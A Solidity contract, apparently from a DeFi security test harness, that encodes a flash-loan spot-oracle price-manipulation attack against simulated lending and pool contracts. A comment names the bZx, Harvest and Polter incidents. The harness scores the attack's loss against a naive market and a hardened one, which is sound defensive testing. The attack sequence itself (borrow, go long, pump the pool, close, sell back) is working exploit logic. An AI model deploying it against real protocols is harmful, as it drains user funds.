// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Attack} from "./Attack.sol";
import {World} from "./worlds/World.sol";

/// A flash loan moves the pool whose price is the oracle's: long at the honest price, pump, close, sell back. Mechanism
/// of bZx 2020, Harvest 2020, Polter 2024.
contract SpotOracleFlashLoan is Attack {
    int128 private constant SIZE = 240e18;
    int128 private constant SMALL = 80e18; // what a hardened market lets 50,000 of margin carry
    bytes32 private _id;

    constructor(World world_) Attack(world_) {}

    function naiveLoss() external pure override returns (uint256) {
        return 1_400_000 * USD;
    }

    function bound() external pure override returns (uint256) {
        return 0;
    }

    function capital() external pure override returns (uint256, uint256) {
        return (50_000 * USD, 0);
    }

    function steps() external pure override returns (uint256) {
        return 4;
    }

    /// All in one transaction; where that fails, in three blocks.
    function _step(uint256 step) internal override {
        if (step == 0) return lender.flash(usd, 200_000 * USD, "all");
        if (usd.balanceOf(address(this)) > 50_000 * USD) return;
        if (step == 1) {
            _enter(50_000 * USD);
            _id = _request(SMALL);
        }
        if (step == 2) _execute(_id, SMALL);
        if (step == 3) lender.flash(usd, 200_000 * USD, "close");
    }

    function _flashed(bytes calldata data) internal override {
        if (bytes3(data) == "all") {
            _enter(50_000 * USD);
            _execute(_request(SIZE), SIZE);
        }
        pool.buyBase(200_000 * USD);
        _close();
        pool.sellBase(base.balanceOf(address(this)));
        _leave();
    }
}
